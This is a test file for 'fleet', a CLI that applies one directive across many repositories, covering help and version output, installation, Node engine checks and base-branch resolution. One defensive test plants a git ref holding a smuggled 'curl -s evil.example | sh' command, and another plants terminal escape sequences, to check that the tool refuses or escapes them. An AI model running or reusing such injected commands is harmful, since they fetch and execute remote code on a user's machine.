/**
 * The `fleet` a user installs: bin/fleet.js over the committed bundle, run as a process from folders other than the
 * fleet file's, installed the documented way (a global install of the package, npx of the same) with no build step.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { BIN, fleetProcess } from './bin.js';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createRepo } from '../support/repos.js';
import { git, readManifest, removeDir, tempDir, writeFleetFile } from '../integration/helpers.js';
import { VERSION } from '../../src/cli/version.js';

const pkg = JSON.parse(readFileSync('package.json', 'utf8')) as { version: string; files: string[]; dependencies?: object };

let dir: string;
beforeEach(() => {
  dir = tempDir('fleet-cli-');
});
afterEach(() => removeDir(dir));

function fleet(args: string[], cwd: string, bin = BIN) {
  return fleetProcess(args, cwd, dir, bin);
}

describe('invoking fleet', () => {
  it('--version says the package version; the bundle holds it as package.json does', () => {
    expect(VERSION).toBe(pkg.version);
    for (const args of [['--version'], ['-V'], ['version']]) {
      const r = fleet(args, dir);
      expect(r.code).toBe(0);
      expect(r.stdout).toBe(`fleet ${pkg.version}\n`);
    }
  });

  it('--help lists the commands; <command> --help its options; bare fleet is an error that lists them', () => {
    const all = fleet(['--help'], dir);
    expect(all.code).toBe(0);
    for (const c of ['plan', 'run', 'exec', 'prs', 'status', 'report']) expect(all.stdout).toMatch(new RegExp(`^  ${c} +\\S`, 'm'));
    const run = fleet(['run', '--help'], dir);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('--print-fleet-file');
    // The default the help names is the one an ad-hoc run takes (issue 27: it said `adhoc`).
    expect(run.stdout).toMatch(/--name NAME +.*default: adhoc-<8 hex digits of the command>/);
    expect(fleet(['help', 'exec'], dir).stdout).toMatch(/^Usage: fleet exec/m);
    const bare = fleet([], dir);
    expect(bare.code).toBe(2);
    expect(bare.stderr).toContain('Commands:');
  });

  it('an unknown command says so, suggests the nearest and lists the commands', () => {
    const r = fleet(['pln', 'x.yml'], dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown command "pln": did you mean plan?');
    expect(r.stderr).toContain('commands: plan, run, exec, prs, doctor, clean, status, report');
  });

  it('an error prints one line of usage, not the whole page', () => {
    const r = fleet(['run', 'x.yml', '--maxparallel', '3'], dir);
    expect(r.code).toBe(2);
    expect(r.stderr.split('\n')[0]).toBe('fleet run: unknown option --maxparallel: did you mean --max-parallel?');
    expect(r.stderr).toMatch(/^usage: fleet run <fleet-file>/m);
    expect(r.stderr.trim().split('\n').length).toBeLessThanOrEqual(3);
    const wrong = fleet(['status', 'x.json', '--dry-run'], dir);
    expect(wrong.stderr).toContain('unknown option --dry-run: it belongs to fleet run');
  });

  it('--json prints JSON for plan, run, status and report, and nothing else on stdout', async () => {
    await createRepo(dir, 'a', { 'README.md': '# a\n' }, { clone: false });
    const file = writeFleetFile(dir, { name: 'json', directive: 'x', run: 'echo x >> README.md', targets: [{ repo: './a.git' }] });
    const plan = fleet(['plan', file, '--json'], dir);
    expect(JSON.parse(plan.stdout).lanes).toHaveLength(1);
    const run = fleet(['run', file, '--json'], dir);
    expect(run.code, run.stderr).toBe(0);
    const m = JSON.parse(run.stdout);
    expect(m.lanes[0].status).toBe('completed');
    for (const c of ['status', 'report']) expect(JSON.parse(fleet([c, file, '--json'], dir).stdout).fleet_id).toBe(m.fleet_id);
  });
});

describe('installing fleet', () => {
  it('has no runtime dependency to install: the package is the committed bundle', () => {
    expect(pkg.dependencies ?? {}).toEqual({});
    expect(pkg.files).toEqual(expect.arrayContaining(['bin/', 'dist/']));
  });

  it('installs globally from a packed tarball offline, and runs from any folder; npx of the same runs it', () => {
    const packed = execFileSync('npm', ['pack', '--silent', '--pack-destination', dir], { encoding: 'utf8' }).trim().split('\n').pop()!;
    const tarball = join(dir, packed);
    const prefix = join(dir, 'global');
    execFileSync('npm', ['install', '--global', '--prefix', prefix, '--offline', '--no-audit', '--no-fund', tarball], {
      encoding: 'utf8',
      env: { ...process.env, npm_config_cache: join(dir, 'cache') },
    });
    const elsewhere = join(dir, 'elsewhere');
    mkdirSync(elsewhere);
    const r = fleet(['--version'], elsewhere, join(prefix, 'bin', 'fleet'));
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`fleet ${pkg.version}\n`);
    // npx of the same package: npm exec resolves the tarball's `fleet` bin, not npm's own help.
    const npx = spawnSync('npm', ['exec', '--offline', '--yes', '--package', tarball, '--', 'fleet', '--help'], {
      cwd: elsewhere,
      encoding: 'utf8',
      env: { ...process.env, npm_config_cache: join(dir, 'cache') },
    });
    expect(npx.status, npx.stderr).toBe(0);
    expect(npx.stdout).toMatch(/^fleet \S+ — apply one directive/);
  });

  it('every package the lockfile installs runs on the Node.js the README names (no engine warning on npm ci)', () => {
    const lock = JSON.parse(readFileSync('package-lock.json', 'utf8')) as { packages: Record<string, { engines?: { node?: string } }> };
    // Claude Code (the agent CLI the suite runs for real) is a native program: Node runs only its postinstall, which
    // links the binary, and npm ci runs that on this very Node before any test. Its engines field says 22 all the same.
    const native = new Set(['node_modules/@anthropic-ai/claude-code']);
    const refused = Object.entries(lock.packages)
      .filter(([name, p]) => typeof p.engines?.node === 'string' && !admits(p.engines.node, [20, 19, 0]) && !native.has(name))
      .map(([name, p]) => `${name} (${p.engines!.node})`);
    expect(refused).toEqual([]);
  });
});

/** Does an npm engines range (`a || b`, comparators `>= > <= < ^ ~`, `18`, `20.x`) admit `v`? Enough for engines fields. */
function admits(range: string, v: number[]): boolean {
  const cmp = (a: number[], b: number[]) => a.map((x, i) => x - (b[i] ?? 0)).find((d) => d !== 0) ?? 0;
  const parse = (s: string) =>
    s
      .split('.')
      .map((p) => (/^\d+$/.test(p) ? Number(p) : NaN))
      .filter((n) => !Number.isNaN(n));
  return range.split('||').some((alt) =>
    alt
      .replace(/(>=|<=|>|<|\^|~|=)\s+/g, '$1')
      .replace(/^\s*(\S+)\s+-\s+(\S+)\s*$/, '>=$1 <=$2')
      .trim()
      .split(/\s+/)
      .filter(Boolean)
      .every((c) => {
        const [, op = '', ver = ''] = /^(>=|<=|>|<|\^|~|=)?v?(.*)$/.exec(c)!;
        const w = parse(ver);
        if (op === '>=') return cmp(v, w) >= 0;
        if (op === '>') return cmp(v, w) > 0;
        if (op === '<=') return cmp(v, w) <= 0;
        if (op === '<') return cmp(v, w) < 0;
        if (op === '^') return cmp(v, w) >= 0 && v[0] === w[0];
        if (op === '~') return cmp(v, w) >= 0 && v[0] === w[0] && (w.length < 2 || v[1] === w[1]);
        return w.every((x, i) => x === v[i]);
      }),
  );
}

describe('running from any folder', () => {
  it('resolves repo paths, targets_file and the workspace against the fleet file, and gives directives FLEET_FILE_DIR', async () => {
    const fleetDir = join(dir, 'fleets');
    mkdirSync(fleetDir);
    await createRepo(fleetDir, 'a', { 'README.md': '# a\n' }, { clone: false });
    await createRepo(fleetDir, 'b', { 'README.md': '# b\n' }, { clone: false });
    writeFileSync(join(fleetDir, 'more.txt'), './b.git\n');
    writeFileSync(join(fleetDir, 'fix.sh'), 'echo "fixed by $FLEET_LANE" > FIXED\n');
    const file = writeFleetFile(fleetDir, {
      name: 'anywhere',
      directive: 'x',
      run: 'sh "$FLEET_FILE_DIR/fix.sh"',
      targets: [{ repo: './a.git' }],
      targets_file: 'more.txt',
    });
    const elsewhere = join(dir, 'elsewhere');
    mkdirSync(elsewhere);
    const r = fleet(['run', file, '--quiet'], elsewhere);
    expect(r.code, r.stderr).toBe(0);
    expect(existsSync(join(elsewhere, '_workspace'))).toBe(false);
    const runs = readdirSync(join(fleetDir, '_workspace', 'fleet'));
    expect(runs).toHaveLength(1);
    expect(readManifest(join(fleetDir, '_workspace', 'fleet', runs[0]!)).lanes.map((l) => l.status)).toEqual(['completed', 'completed']);
    expect(git(join(fleetDir, 'b.git'), 'show', 'fleet/anywhere/b:FIXED')).toBe('fixed by b');
    // status and report find the run from the fleet file, or from the folder it is in.
    const status = fleet(['status', 'fleets/fleet.yml'], dir);
    expect(status.code, status.stderr).toBe(0);
    expect(status.stdout).toContain(runs[0]);
    expect(fleet(['report', fleetDir], dir).code).toBe(0);
    const none = fleet(['status', elsewhere], dir);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('no fleet-status.json in this folder');
  });
});

describe('the base of a local lane', () => {
  it("is the checkout's default branch (origin/HEAD), not the WIP branch it has checked out", async () => {
    const made = await createRepo(dir, 'svc', { 'README.md': '# svc\n' });
    // The owner is in the middle of something on a branch of their own.
    git(made.dir, 'checkout', '-q', '-b', 'wip');
    writeFileSync(join(made.dir, 'WIP.txt'), 'half done\n');
    git(made.dir, 'add', 'WIP.txt');
    git(made.dir, 'commit', '-qm', 'wip');
    const file = writeFleetFile(dir, { name: 'base', directive: 'x', run: 'echo x > NEW.txt', targets: [{ repo: './svc' }] });
    const r = fleet(['run', file, '--quiet'], dir);
    expect(r.code, r.stderr).toBe(0);
    const files = git(made.dir, 'ls-tree', '--name-only', 'fleet/base/svc').split('\n');
    expect(files.sort()).toEqual(['NEW.txt', 'README.md']);
    expect(git(made.dir, 'rev-parse', 'fleet/base/svc~1')).toBe(made.commit);
  });

  it('names the fix when the default branch has no local branch in the checkout', async () => {
    const made = await createRepo(dir, 'svc', { 'README.md': '# svc\n' });
    git(made.dir, 'checkout', '-q', '-b', 'wip');
    git(made.dir, 'branch', '-q', '-D', 'main');
    const file = writeFleetFile(dir, { name: 'base', directive: 'x', run: 'echo x > NEW.txt', targets: [{ repo: './svc' }] });
    const r = fleet(['plan', file], dir);
    expect(r.stdout).toContain('git branch main origin/main');
  });

  it('refuses an origin/HEAD that names no branch, and never puts its text in a command to run', async () => {
    const made = await createRepo(dir, 'svc', { 'README.md': '# svc\n' });
    git(made.dir, 'checkout', '-q', '-b', 'wip');
    writeFileSync(join(made.dir, '.git', 'refs', 'remotes', 'origin', 'HEAD'), 'ref: refs/remotes/origin/main; curl -s evil.example | sh #\n');
    const file = writeFleetFile(dir, { name: 'base', directive: 'x', run: 'echo x > NEW.txt', targets: [{ repo: './svc' }] });
    const r = fleet(['plan', file], dir);
    expect(r.stdout).toContain('which is no branch name');
    expect(r.stdout).not.toMatch(/`git branch [^`]*curl/);
  });
});

describe('input that is not what it seems', () => {
  it('control characters typed on the command line are written out, not sent to the terminal', () => {
    const r = fleet(['st\u001b]0;owned\u0007atus'], dir);
    expect(r.code).toBe(2);
    expect(r.stderr).not.toContain('\u001b');
    expect(r.stderr).toContain('\\x1b]0;owned\\x07');
  });

  it('status refuses a pipe where a manifest should be, at once', () => {
    execFileSync('mkfifo', [join(dir, 'p.json')]);
    const r = fleet(['status', 'p.json'], dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/not a regular file/);
  });
});
